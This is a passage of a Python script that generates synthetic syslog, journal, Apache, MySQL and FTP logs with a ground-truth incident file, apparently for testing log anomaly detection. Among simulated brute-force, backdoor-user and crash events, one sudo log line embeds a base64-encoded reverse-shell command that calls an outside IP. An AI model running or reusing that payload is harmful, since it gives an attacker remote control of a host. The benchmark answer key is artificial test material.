                ftp(t + sec(2 + k), '[scanner] OK UPLOAD: Client "::ffff:10.8.0.7", "/incoming/scan-%s-%03d.pdf", %d bytes, %.2fKbyte/sec' % (t.strftime("%Y%m%d"), k, r.randint(10 ** 5, 10 ** 7), r.uniform(900, 9000)))

    # ---- incidents of day 3
    ip = rip(r)
    t0 = at(1, 20)
    t = t0
    users = r.sample(INVALID_USERS, 70) + ["%s%d" % (r.choice(["user", "test", "admin", "dev"]), k) for k in range(70)]
    for u in users:
        pid, port = r.randint(20000, 990000), r.randint(30000, 65000)
        t += sec(r.uniform(1, 3.5))
        authj(t, "sshd", "Invalid user %s from %s port %d" % (u, ip, port), pid)
        authj(t + sec(1), "sshd", "Failed password for invalid user %s from %s port %d ssh2" % (u, ip, port), pid)
        authj(t + sec(1.2), "sshd", "Connection closed by invalid user %s %s port %d [preauth]" % (u, ip, port), pid)
    truth.add(name, "invalid-user-enumeration", t0, {"ip": ip}, end=t, note="140 distinct invalid users from one IP in ~5 min")

    t0 = at(3, 5)
    kern(t0, "INFO: task jbd2/vda1-8:231 blocked for more than 122 seconds.", 3)
    kern(t0, "      Not tainted 6.8.0-49-generic #49-Ubuntu", 3)
    kern(t0, "\"echo 0 > /proc/sys/kernel/hung_task_timeout_secs\" disables this message.", 3)
    kern(t0, "task:jbd2/vda1-8     state:D stack:0     pid:231   tgid:231   ppid:2      flags:0x00004000", 6)
    kern(t0, "Call Trace:", 4)
    for fn in ["<TASK>", "__schedule+0x27c/0x6b0", "schedule+0x33/0x110", "io_schedule+0x46/0x80", "bit_wait_io+0x11/0x90",
               "__wait_on_bit+0x42/0x110", "out_of_line_wait_on_bit+0x8c/0xb0", "__wait_on_buffer+0x30/0x50",
               "jbd2_journal_commit_transaction+0x1226/0x1a50", "kjournald2+0xab/0x280", "kthread+0xef/0x120", "ret_from_fork+0x44/0x70", "</TASK>"]:
        kern(t0, " " + fn, 4)
    kern(t0 + sec(123), "INFO: task dockerd:911 blocked for more than 122 seconds.", 3)
    kern(t0 + sec(123), "      Not tainted 6.8.0-49-generic #49-Ubuntu", 3)
    truth.add(name, "kernel-hung-task", t0, {"process": "jbd2/vda1-8"}, {"process": "dockerd"}, end=t0 + sec(123),
              note="hung_task: jbd2/vda1-8 then dockerd blocked > 122 s (storage stall)")

    t0 = at(4, 50)
    ssh_login(h, authj, t0 - sec(60), "ubuntu", "185.220.101.47")
    sudo_line(h, authj, t0 - sec(20), "ubuntu", "/bin/bash", "/home/ubuntu")
    pid = r.randint(20000, 990000)
    j(t0, "groupadd", "group added to /etc/group: name=sysupd, GID=1005", pid, None, 6, extra={"SYSLOG_FACILITY": "10"})
    j(t0, "groupadd", "group added to /etc/gshadow: name=sysupd", pid, None, 6, extra={"SYSLOG_FACILITY": "10"})
    j(t0, "groupadd", "new group: name=sysupd, GID=1005", pid, None, 6, extra={"SYSLOG_FACILITY": "10"})
    j(t0 + sec(0.1), "useradd", "new user: name=sysupd, UID=1005, GID=1005, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/1", pid + 1, None, 6, extra={"SYSLOG_FACILITY": "10"})
    j(t0 + sec(9), "usermod", "add 'sysupd' to group 'sudo'", pid + 5, None, 6, extra={"SYSLOG_FACILITY": "10"})
    j(t0 + sec(9), "usermod", "add 'sysupd' to shadow group 'sudo'", pid + 5, None, 6, extra={"SYSLOG_FACILITY": "10"})
    truth.add(name, "new-user", t0, {"user": "sysupd"}, {"ip": "185.220.101.47"}, pre=t0 - sec(60),
              note="useradd sysupd (+ group sudo) at 04:50 from an ubuntu session from a Tor exit address")

    t0 = at(6, 35)
    kern(t0, "node[28811]: segfault at 18 ip 00007f3c2a1b4e61 sp 00007ffd8e4c2a30 error 4 in libc.so.6[7f3c2a128000+195000] likely on CPU 1 (core 1, socket 0)", 6)
    kern(t0, "Code: 48 8b 45 d8 64 48 2b 04 25 28 00 00 00 75 05 48 83 c4 28 c3 e8 5f 9f 0b 00 66 2e 0f 1f 84 00 00 00 00 00 f3 0f 1e fa 48 8b 47 <48> 8b 40 18 c3 0f 1f 40 00", 6)
    j(t0 + sec(0.4), "dockerd", 'time="%s" level=info msg="ignoring event" container=%s module=libcontainerd namespace=moby topic=/tasks/delete type="*events.TaskDelete"' % (t0.strftime("%Y-%m-%dT%H:%M:%S.") + "400000000Z", cont["web"]), 911, "docker.service")
    dlog("web", t0 + sec(2), json.dumps({"level": 30, "time": int((t0 + sec(2)).timestamp() * 1000), "pid": 1, "hostname": cont["web"][:12], "msg": "Server listening at http://0.0.0.0:3000"}, separators=(",", ":")))
    truth.add(name, "segfault", t0, {"process": "node"}, {"container": cont["web"]}, note="kernel: node[28811]: segfault ... in libc.so.6; the web container restarts")

    t0 = at(8, 15)
    t = t0
    unit = "report-exporter.service"
    for k in range(1, 60):
        sysd(t, "Started %s - Nightly report exporter." % unit, unit=unit)
        j(t + sec(0.6), "report-exporter", "Traceback (most recent call last):", 4400 + k, unit, 3)
        j(t + sec(0.6), "report-exporter", "  File \"/opt/report-exporter/main.py\", line 12, in <module>", 4400 + k, unit, 3)
        j(t + sec(0.6), "report-exporter", "ModuleNotFoundError: No module named 'psycopg2'", 4400 + k, unit, 3)
        sysd(t + sec(0.7), "%s: Main process exited, code=exited, status=1/FAILURE" % unit, 5, unit=unit)
        sysd(t + sec(0.7), "%s: Failed with result 'exit-code'." % unit, 4, unit=unit)
        t += sec(10.7)
        sysd(t, "%s: Scheduled restart job, restart counter is at %d." % (unit, k), unit=unit)
    truth.add(name, "unit-restart-loop", t0, {"unit": unit}, end=t, note="Restart=always every 10 s for ~10 min: ModuleNotFoundError after an upgrade")

    ip = rip(r)
    t0 = at(12, 10)
    t = t0
    for k in range(60):
        t += sec(r.uniform(4, 14))
        dov(t, ip, r.choice(["info@nordlicht-shop.de", "mia@nordlicht-shop.de", "jonas@nordlicht-shop.de", "admin@nordlicht-shop.de", "kontakt@nordlicht-shop.de"]), r.randint(1, 3))
    truth.add(name, "mail-auth-failures", t0, {"ip": ip}, end=t, note="60 Dovecot imap-login auth failed from one IP in ~9 min")

    t0 = at(13, 30)
    t = t0
    ips = [rip(r) for _ in range(110)]
    tusers = ["git", "ubuntu", "deploy"]
    for k, ip in enumerate(ips):
        t += sec(r.uniform(40, 110))
        for (tt, msg, pid) in ssh_session_lines(r, ip, [tusers[k % 3]], t, valid):
            authj(tt, "sshd", msg, pid)
    truth.add(name, "slow-distributed-brute-force", t0, {"user": tusers}, end=t,
              note="110 IPs, one guess each (users git/ubuntu/deploy) every 40-110 s for ~2.3 h")

    ip = rip(r)
    t0 = at(17, 5)
    t = t0
    for k in range(50):
        t += sec(r.uniform(3, 10))
        ftp(t, 'CONNECT: Client "::ffff:%s"' % ip)
        ftp(t + sec(1.5), '[%s] FAIL LOGIN: Client "::ffff:%s"' % (r.choice(["scanner", "admin", "ftp", "backup", "nordlicht"]), ip))
    truth.add(name, "ftp-auth-failures", t0, {"ip": ip}, end=t, note="50 vsftpd FAIL LOGIN from one IP in ~6 min")

    t0 = at(22, 10)
    t = t0
    for k in range(12):
        tr = t
        rr = "1:M %02d %s %d %s.%03d" % (tr.day, MON[tr.month - 1], tr.year, tr.strftime("%H:%M:%S"), 0)
        dlog("redis", tr, "%s # Can't save in background: fork: Cannot allocate memory" % rr)
        t += sec(r.uniform(5, 7))
        for _ in range(r.randint(2, 5)):
            dlog("api", t, 'time=%s level=ERROR msg="cache write failed" err="MISCONF Redis is configured to save RDB snapshots, but it\'s currently unable to persist to disk. Commands that may modify the data set are disabled, because this instance is configured to report errors during writes if RDB snapshotting fails (stop-writes-on-bgsave-error option). Please check the Redis logs for details about the RDB error."' % (t.strftime("%Y-%m-%dT%H:%M:%S.") + "000Z"))
    truth.add(name, "new-error-template", t0, {"container": cont["redis"]}, {"container": cont["api"]}, end=t,
              note="redis: Can't save in background: fork: Cannot allocate memory (never seen), api MISCONF errors follow")
    return h


# ---------------------------------------------------------------- host C: Rocky 9, httpd + MySQL 8 replica + Python app, rsyslog traditional, dateext

def host_rhel_mysql(name, seed, truth, scale):
    h = Host(name, seed)
    r = h.r
    sl = Syslog(h, "bsd")
    for p in ["messages", "secure", "cron", "httpd/access_log", "httpd/error_log", "app/billing.log"]:
        h.rot[p] = ("dateext", 3, 22)       # anacron's cron.daily, about 03:22

    def sec_(t, prog, msg, pid=None):
        h.add("secure", t, sl.line(t, prog, msg, pid))

    def msgs(t, prog, msg, pid=None):
        h.add("messages", t, sl.line(t, prog, msg, pid))

    def kern(t, msg):
        h.add("messages", t, sl.line(t, "kernel", msg))

    def cron(t, prog, msg, pid=None):
        h.add("cron", t, sl.line(t, prog, msg, pid))

    def my(t, thr, level, code, sub, msg):
        h.add("mysql/mysqld.log", t, "%s %d [%s] [%s] [%s] %s" % (mysql8_ts(t), thr, level, code, sub, msg))

    def herr(t, mod, level, msg, client=None):
        c = " [client %s:%d]" % (client, r.randint(1025, 65000)) if client else ""
        h.add("httpd/error_log", t, "[%s] [%s:%s] [pid %d:tid %d]%s %s" % (apache_err_ts(t), mod, level, r.randint(1500, 9000), 140000000000000 + r.randint(0, 9999999), c, msg))

    def acc(t, ip, method, path, status, size, ref="-", ua=None, dur=0.0, user="-"):
        h.add("httpd/access_log", t + sec(dur), access_line(ip, t, method, path, status, size, ref, ua or r.choice(UA_BROWSER), user))

    def app(t, level, logger, message, **kw):
        d = {"ts": t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06d+00:00" % t.microsecond, "level": level, "logger": logger, "message": message}
        d.update(kw)
        h.add("app/billing.log", t, json.dumps(d))

    valid = {"root", "admin", "backup", "oper"}
    ssh_background(h, sec_, valid, per_day=(700, 1300))

    silent = at(18, 25)
    for m in minutes_of(DAY0, END):
        f = diurnal(m, peak=11.0, low=0.1)      # a B2B portal: office hours
        for _ in range(poisson(r, 14 * f * scale)):
            t = m + sec(r.uniform(0, 60))
            ip = rip(r, CLIENT_NETS)
            pth = r.choice(["/portal/", "/portal/invoices", "/portal/invoices/%d.pdf", "/portal/api/invoices?page=%d", "/portal/login", "/portal/static/app.js", "/portal/static/app.css"])
            if "%d" in pth:
                pth = pth % r.randint(1, 9000)
            st = r.choice([200] * 40 + [302, 304, 404])
            user = r.choice(["-", "-", "-", "-", "ops"]) if pth.startswith("/portal/api") else "-"
            acc(t, ip, "GET", pth, st, r.randint(300, 200000), "https://portal.kessler-logistik.de/portal/", None, r.uniform(0.01, 1.5), user)
        if m.minute % 2 == 0:
            acc(m + sec(3), "10.10.0.2", "GET", "/portal/health", 200, 15, "-", "kube-probe/1.29", 0.004)
        if r.random() < 0.02:
            ip = rip(r)
            t = m + sec(r.uniform(0, 50))
            for pth in r.sample(PROBE_PATHS, r.randint(1, 4)):
                t += sec(r.uniform(0.3, 4))
                acc(t, ip, "GET", pth, 404, 196, "-", r.choice(UA_SCAN), 0.01)
        if r.random() < 0.004:   # scanners hitting the protected /admin/ once or twice
            ip = rip(r)
            t = m + sec(r.uniform(0, 50))
            for _ in range(r.randint(1, 2)):
                herr(t, "auth_basic", "error", 'AH01618: user admin not found: /admin/', ip)
                acc(t, ip, "GET", "/admin/", 401, 381, "-", r.choice(UA_SCAN), 0.001, "admin")
                t += sec(r.uniform(1, 5))
        # the billing app (Python, JSON lines)
        if m < silent or m >= at(23, 59) or m < TEST_DAY:
            for _ in range(poisson(r, 6 * (0.3 + f))):
                t = m + sec(r.uniform(0, 60))
                app(t, "INFO", "billing.sync", "synced invoice batch", batch=r.randint(1, 10 ** 6), count=r.randint(1, 40), duration_ms=r.randint(30, 900))
            if r.random() < 0.02:
                t = m + sec(r.uniform(0, 60))
                app(t, "ERROR", "billing.http", "Retrying upstream after timeout", url="https://erp.kessler-logistik.de/api/v2/invoices", attempt=r.randint(1, 3), exc_info="requests.exceptions.ReadTimeout: HTTPSConnectionPool(host='erp.kessler-logistik.de', port=443): Read timed out. (read timeout=10)")
        # MySQL: warnings of a legacy client, replica chatter
        if r.random() < 0.05:
            my(m + sec(r.uniform(0, 60)), r.randint(10, 9000), "Warning", "MY-013360", "Server", "Plugin mysql_native_password reported: ''mysql_native_password' is deprecated and will be removed in a future release. Please use caching_sha2_password instead'")
        if r.random() < 0.01:
            my(m + sec(r.uniform(0, 60)), r.randint(10, 9000), "Warning", "MY-010055", "Server", "IP address '10.10.0.%d' could not be resolved: Name or service not known" % r.randint(3, 40))
        # cron every 10 minutes (sysstat) and hourly backup at :17
        jobs = []
        if m.minute % 10 == 0:
            jobs.append(("root", "/usr/lib64/sa/sa1 1 1"))
        if m.minute == 17 and not (m >= at(13, 0)):
            jobs.append(("root", "/usr/local/sbin/mysql-binlog-backup.sh --to s3://kessler-backup/db-c/"))
        if m.minute == 1:
            pid = h.newpid()
            cron(m, "CROND", "(root) CMD (run-parts /etc/cron.hourly)", pid)
            cron(m, "run-parts[%d]" % (pid + 1), "(/etc/cron.hourly) starting 0anacron")
            cron(m, "run-parts[%d]" % (pid + 1), "(/etc/cron.hourly) finished 0anacron")
        for (u, cmd) in jobs:
            pid = h.newpid()
            t = m + sec(r.uniform(0, 1.5))
            cron(t, "CROND", "(%s) CMD (%s)" % (u, cmd), pid)
            cron(t + sec(r.uniform(0.1, 9)), "CROND", "(%s) CMDEND (%s)" % (u, cmd), pid)
    truth.add(name, "cron-not-run", at(13, 17), {}, note="hourly mysql-binlog-backup.sh at :17 (CROND CMD/CMDEND) runs for the last time at 12:17")
    truth.add(name, "service-silent", silent, {}, {"path": "/var/log/app/billing.log"},
              note="app/billing.log (2-8 lines/min, never a silent minute for long) stops at 18:25")

    for d in range(DAYS):
        # anacron cron.daily with logrotate ~03:22, and the floppy probe noise of this VM
        t = DAY0 + timedelta(days=d, hours=3, minutes=22, seconds=r.randint(0, 30))
        cron(t - sec(600), "anacron", "Will run job `cron.daily' in 10 min.", 1432)
        cron(t, "anacron", "Job `cron.daily' started", 1432)
        cron(t + sec(6), "anacron", "Job `cron.daily' terminated", 1432)
        msgs(t + sec(1), "systemd", "Starting logrotate.service - Rotate log files...", 1)
        msgs(t + sec(2), "rsyslogd", "[origin software=\"rsyslogd\" swVersion=\"8.2310.0-4.el9\" x-pid=\"1011\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed", 1011)
        msgs(t + sec(2), "systemd", "Reloading The Apache HTTP Server...", 1)
        herr(t + sec(2), "mpm_event", "notice", "AH00489: Apache/2.4.57 (Rocky Linux) OpenSSL/3.2.2 configured -- resuming normal operations")
        herr(t + sec(2), "core", "notice", "AH00094: Command line: '/usr/sbin/httpd -D FOREGROUND'")
        msgs(t + sec(2), "httpd", "AH00558: httpd: Could not reliably determine the server's fully qualified domain name, using fe80::5054:ff:fe1a:2b3c%eth0. Set the 'ServerName' directive globally to suppress this message", 1201)
        msgs(t + sec(3), "systemd", "logrotate.service: Deactivated successfully.", 1)
        msgs(t + sec(3), "systemd", "Finished logrotate.service - Rotate log files.", 1)
        t2 = DAY0 + timedelta(days=d, hours=r.uniform(5, 7))
        msgs(t2, "systemd", "Starting dnf-makecache.service - dnf makecache...", 1)
        kern(t2 + sec(2), "I/O error, dev fd0, sector 0 op 0x0:(READ) flags 0x0 phys_seg 1 prio class 2")
        kern(t2 + sec(2), "floppy: error 10 while reading block 0")
        kern(t2 + sec(3), "I/O error, dev fd0, sector 0 op 0x0:(READ) flags 0x0 phys_seg 1 prio class 2")
        kern(t2 + sec(3), "Buffer I/O error on dev fd0, logical block 0, async page read")
        msgs(t2 + sec(20), "dnf", "Metadata cache created.", 5511)
        msgs(t2 + sec(20), "systemd", "dnf-makecache.service: Deactivated successfully.", 1)
        msgs(t2 + sec(20), "systemd", "Finished dnf-makecache.service - dnf makecache.", 1)
        # admin: password with an occasional typo, sudo to root (allowed)
        t = DAY0 + timedelta(days=d, hours=r.uniform(7, 9))
        ssh_login(h, sec_, t, "admin", "93.184.20.77", method="password", fails=r.choice([0, 1, 1, 2]))
        sudo_line(h, sec_, t + sec(25), "admin", "/bin/systemctl status mysqld", "/home/admin")
        # backup pulls over ssh
        t = DAY0 + timedelta(days=d, hours=2, minutes=r.randint(0, 30))
        ssh_login(h, sec_, t, "backup", "10.10.0.9")
        # basic-auth user on the admin area, one typo a day
        t = DAY0 + timedelta(days=d, hours=r.uniform(9, 16))
        herr(t, "auth_basic", "error", 'AH01617: user ops: authentication failure for "/admin/": Password Mismatch', "93.184.20.77")
        acc(t, "93.184.20.77", "GET", "/admin/", 401, 381, "-", UA_BROWSER[0], 0.001, "ops")
        acc(t + sec(6), "93.184.20.77", "GET", "/admin/", 200, 5120, "-", UA_BROWSER[0], 0.02, "ops")
        # replica: connects and reports, daily restart of the replica's IO thread by a network blip
        t = DAY0 + timedelta(days=d, hours=r.uniform(0, 23))
        my(t, 12, "ERROR", "MY-010584", "Repl", "Replica I/O for channel '': Error reconnecting to source 'repl@10.10.0.4:3306'. This was attempt 1/86400, with a delay of 60 seconds between attempts. Message: Can't connect to MySQL server on '10.10.0.4:3306' (110), Error_code: MY-002003")
        my(t + sec(60), 12, "System", "MY-010562", "Repl", "Replica I/O thread for channel '': connected to source 'repl@10.10.0.4:3306',replication started in log 'binlog.%06d' at position %d" % (200 + d, r.randint(10 ** 5, 10 ** 8)))

    # ---- incidents of day 3
    t0 = at(0, 50)
    t = t0
    for k in range(14):
        sector = 41943040 + r.randint(0, 10 ** 6)
        kern(t, "I/O error, dev sdb, sector %d op 0x1:(WRITE) flags 0x800 phys_seg %d prio class 2" % (sector, r.randint(1, 32)))
        if k % 3 == 0:
            kern(t, "Buffer I/O error on dev sdb1, logical block %d, lost async page write" % (sector // 8))
        if k % 5 == 0:
            kern(t, "EXT4-fs warning (device sdb1): ext4_end_bio:343: I/O error 10 writing to inode %d starting block %d)" % (r.randint(10 ** 5, 10 ** 6), sector // 8))
        t += sec(r.uniform(1, 30))
    kern(t, "EXT4-fs error (device sdb1): ext4_journal_check_start:83: comm kworker/u4:2: Detected aborted journal")
    kern(t, "EXT4-fs (sdb1): Remounting filesystem read-only")
    truth.add(name, "io-errors", t0, {}, {"path": "/dev/sdb"}, end=t, note="write I/O errors on sdb (the MySQL data disk), ext4 remounts sdb1 read-only")

    ip = rip(r)
    t0 = at(2, 30)
    t1 = ssh_brute(h, sec_, ip, t0, 300, valid, ["root"], per_min=30)
    truth.add(name, "ssh-brute-force", t0, {"ip": ip}, end=t1, note="300 root guesses in ~10 min")

    ip = rip(r)
    t0 = at(4, 15)
    t = t0
    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
    for k in range(90):
        t += sec(r.uniform(1.5, 5))
        u = r.choice(["admin", "admin", "ops", "root", "administrator"])
        if u == "ops":
            herr(t, "auth_basic", "error", 'AH01617: user ops: authentication failure for "/admin/": Password Mismatch', ip)
        else:
            herr(t, "auth_basic", "error", 'AH01618: user %s not found: /admin/' % u, ip)
        acc(t, ip, "GET", "/admin/", 401, 381, "-", ua, 0.001, u)
    truth.add(name, "http-basic-auth-failures", t0, {"ip": ip}, end=t, note="90 basic-auth failures on /admin/ from one IP in ~5 min")

    t0 = at(6, 40)
    sudo_line(h, sec_, t0, "apache", "/usr/bin/id", "/var/www/html", ok=False, tty="unknown")
    sudo_line(h, sec_, t0 + sec(4), "apache", "/bin/sh -c echo\\ c2ggLWkgPiYgL2Rldi90Y3AvNDUuOC4xNy4yMi80NDQ0IDA+JjE=|base64\\ -d|sh", "/var/www/html", ok=False, tty="unknown")
    truth.add(name, "unexpected-sudo-root", t0, {"user": "apache"}, note="the web server's user tries sudo to root (user NOT in sudoers)")

    t0 = at(8, 20)
    for msg in ["BUG: kernel NULL pointer dereference, address: 0000000000000008",
                "#PF: supervisor read access in kernel mode", "#PF: error_code(0x0000) - not-present page",
                "PGD 0 P4D 0", "Oops: 0000 [#1] PREEMPT SMP NOPTI",
                "CPU: 1 PID: 4411 Comm: mysqld Kdump: loaded Not tainted 5.14.0-427.42.1.el9_4.x86_64 #1",
                "Hardware name: Red Hat KVM/RHEL, BIOS 1.16.3-2.el9 04/01/2014",
                "RIP: 0010:blk_mq_start_request+0x2a/0x140",
                "Code: 0f 1f 44 00 00 41 54 55 48 89 fd 53 48 8b 47 08 <48> 8b 40 08 a8 10 75 5c 48 8b 45 00 48 8b 80 b8 00 00 00",
                "RSP: 0018:ffffa58d41a8bb28 EFLAGS: 00010246", "Call Trace:", " <TASK>", " ? __die_body.cold+0x8/0xd",
                " ? page_fault_oops+0x134/0x170", " ? exc_page_fault+0x62/0x150", " ? asm_exc_page_fault+0x22/0x30",
                " virtblk_prep_rq.isra.0+0x2b/0x80 [virtio_blk]", " virtio_queue_rq+0x4d/0x1a0 [virtio_blk]", " </TASK>",
                "---[ end trace 7d3f1c9b2e0a4f11 ]---"]:
        kern(t0, msg)
    truth.add(name, "kernel-oops", t0, {"process": "mysqld"}, note="BUG: kernel NULL pointer dereference / Oops in the context of mysqld (Comm: mysqld)")

    t0 = at(10, 5)
    t = t0
    my(t, 14, "ERROR", "MY-010584", "Repl", "Replica SQL for channel '': Worker 1 failed executing transaction 'ANONYMOUS' at source log binlog.000202, end_log_pos 48817244; Could not execute Write_rows event on table shop.orders; Duplicate entry '881234' for key 'orders.PRIMARY', Error_code: 1062; handler error HA_ERR_FOUND_DUPP_KEY; the event's source log binlog.000202, end_log_pos 48817244, Error_code: MY-001062")
    my(t, 13, "Warning", "MY-010584", "Repl", "Replica SQL for channel '': ... The replica coordinator and worker threads are stopped, possibly leaving data in inconsistent state. A restart should restore consistency automatically, although using non-transactional storage for data or info tables or DDL queries could lead to problems. In such cases you have to examine your data (see documentation for details). Error_code: MY-001756")
    my(t, 13, "ERROR", "MY-010586", "Repl", "Error running query, replica SQL thread aborted. Fix the problem, and restart the replica SQL thread with \"START REPLICA\". We stopped at log 'binlog.000202' position 48816911")
    for k in range(8):
        t += sec(r.uniform(20, 60))
        my(t, r.randint(100, 9000), "ERROR", "MY-013129", "Server", "A message intended for a client cannot be sent there as no client-session is attached. Therefore, we're sending the information to the error-log instead: MY-001290 - The MySQL server is running with the --super-read-only option so it cannot execute this statement")
    truth.add(name, "db-errors", t0, {}, end=t, note="MySQL 8 replica: SQL thread stops on a duplicate key (1062), then super-read-only errors")

    t0 = at(11, 50)
    pid = 44120
    msgs(t0 - sec(1), "systemd", "Starting report-gen.service - Daily invoice reports...", 1)
    msgs(t0, "report-gen", "Traceback (most recent call last):", pid)
    msgs(t0, "report-gen", "  File \"/opt/report-gen/gen.py\", line 211, in write_csv", pid)
    msgs(t0, "report-gen", "OSError: [Errno 28] No space left on device: '/var/lib/reports/daily-20261125.csv'", pid)
    msgs(t0 + sec(0.2), "systemd", "report-gen.service: Main process exited, code=exited, status=1/FAILURE", 1)
    msgs(t0 + sec(0.2), "systemd", "report-gen.service: Failed with result 'exit-code'.", 1)
    msgs(t0 + sec(0.2), "systemd", "Failed to start report-gen.service - Daily invoice reports.", 1)
    app(t0 + sec(5), "ERROR", "billing.store", "could not write invoice PDF", exc_info="OSError: [Errno 28] No space left on device", path="/var/lib/billing/pdf/2026/11/INV-88213.pdf")
    truth.add(name, "disk-full", t0, {"process": "report-gen"}, {"unit": "report-gen.service"}, note="report-gen: OSError [Errno 28] No space left on device")
    for d in range(2):          # report-gen runs fine on days 1-2
        t = DAY0 + timedelta(days=d, hours=11, minutes=50)
        msgs(t - sec(1), "systemd", "Starting report-gen.service - Daily invoice reports...", 1)
        msgs(t, "report-gen", "wrote /var/lib/reports/daily-%s.csv (%d rows)" % (t.strftime("%Y%m%d"), r.randint(3000, 9000)), 44000 + d)
        msgs(t + sec(3), "systemd", "report-gen.service: Deactivated successfully.", 1)
        msgs(t + sec(3), "systemd", "Finished report-gen.service - Daily invoice reports.", 1)

    ip = rip(r)
    t0 = at(14, 40)
    t = t0
    for pth in r.sample(PROBE_PATHS, len(PROBE_PATHS)) + ["/portal/%s" % p.lstrip("/") for p in r.sample(PROBE_PATHS, 30)]:
        t += sec(r.uniform(0.1, 0.8))
        acc(t, ip, r.choice(["GET", "GET", "HEAD"]), pth, 404, 196, "-", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", 0.003)
    truth.add(name, "web-vuln-scan", t0, {"ip": ip}, end=t, note="~76 probes in ~40 s (Nuclei), 404")

    ip = rip(r)
    t0 = at(16, 10)
    t = t0 - sec(25 * 9)
    for k in range(25):
        sec_(t, "sshd", "Failed password for backup from %s port %d ssh2" % (ip, 40000 + k), 60000 + k)
        t += sec(r.uniform(7, 11))
    ssh_login(h, sec_, t0, "backup", ip, method="password")
    truth.add(name, "login-after-failures", t0, {"ip": ip, "user": "backup"}, pre=t0 - sec(230),
              note="25 failed passwords for backup then Accepted password (backup normally logs in by key from 10.10.0.9)")

    t0 = at(20, 30)
    for (tt, msg) in kernel_oom(r, t0, "celery", 23101, "/system.slice/billing-worker.service", 2310000, 0):
        kern(tt, msg.replace("6.1.0-27-amd64 #1  Debian 6.1.115-1", "5.14.0-427.42.1.el9_4.x86_64 #1"))
    msgs(t0 + sec(0.3), "systemd", "billing-worker.service: A process of this unit has been killed by the OOM killer.", 1)
    msgs(t0 + sec(0.5), "systemd", "billing-worker.service: Main process exited, code=killed, status=9/KILL", 1)
    msgs(t0 + sec(0.5), "systemd", "billing-worker.service: Failed with result 'oom-kill'.", 1)
    msgs(t0 + sec(10.5), "systemd", "billing-worker.service: Scheduled restart job, restart counter is at 1.", 1)
    msgs(t0 + sec(10.6), "systemd", "Started billing-worker.service - Billing Celery worker.", 1)
    truth.add(name, "oom-kill", t0, {"process": "celery"}, {"unit": "billing-worker.service"}, note="OOM killer kills celery of billing-worker.service")

    t0 = at(22, 0)
    t = t0
    net = "%d.%d.%d" % (r.choice(SCANNER_NETS), r.randint(0, 255), r.randint(0, 255))
    for k in range(4000):
        t += sec(r.uniform(0.05, 0.25))
        kern(t, "filter_IN_public_REJECT: IN=eth0 OUT= MAC=52:54:00:1a:2b:3c:52:54:00:aa:bb:cc:08:00 SRC=%s.%d DST=10.10.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0 " % (
            net, r.randint(1, 254), r.randint(30, 250), r.randint(1, 65535), r.randint(1025, 65000), r.randint(1, 65535)))
    truth.add(name, "firewall-drop-surge", t0, {}, end=t, note="firewalld REJECT surge: 4000 in ~10 min from a /24 (%s.0/24); background below" % net)
    for m in minutes_of(DAY0, END):     # firewalld background: logged denials, steady
        for _ in range(poisson(r, 1.1)):
            kern(m + sec(r.uniform(0, 60)), "filter_IN_public_REJECT: IN=eth0 OUT= MAC=52:54:00:1a:2b:3c:52:54:00:aa:bb:cc:08:00 SRC=%s DST=10.10.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0 " % (
                rip(r), r.randint(30, 250), r.randint(1, 65535), r.randint(1025, 65000), r.choice([23, 3389, 8080, 445, 5900, 22222, 2375, 6379, 9200])))
    return h


STACKS = [host_apache_mariadb, host_docker_journal, host_rhel_mysql]
NAMES = ["web-a", "app-b", "db-c"]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--hosts", type=int, default=3)
    ap.add_argument("--scale", type=float, default=1.0)
    a = ap.parse_args()
    truth = Truth()
    os.makedirs(a.out, exist_ok=True)
    summary = {}
    for i in range(a.hosts):
        name = NAMES[i % 3] + ("" if i < 3 else str(i // 3 + 1))
        JITTER["seed"], JITTER["host"] = a.seed, name
        h = STACKS[i % 3](name, a.seed * 1000 + i, truth, a.scale)
        n = h.write(a.out)
        summary[name] = n
        print("%s: %d lines (%.0f/day), %d files" % (name, n, n / DAYS, len(h.files)))
    with open(os.path.join(a.out, "truth.json"), "w") as f:
        json.dump({"seed": a.seed, "hosts": a.hosts, "scale": a.scale, "day0": DAY0.isoformat(), "learn_until": TEST_DAY.strftime("%Y-%m-%dT%H:%M:%SZ"),
                   "test_end": END.strftime("%Y-%m-%dT%H:%M:%SZ"), "lines": summary, "incidents": truth.items}, f, indent=1)
    print("%d incidents in truth.json" % len(truth.items))


if __name__ == "__main__":
    main()
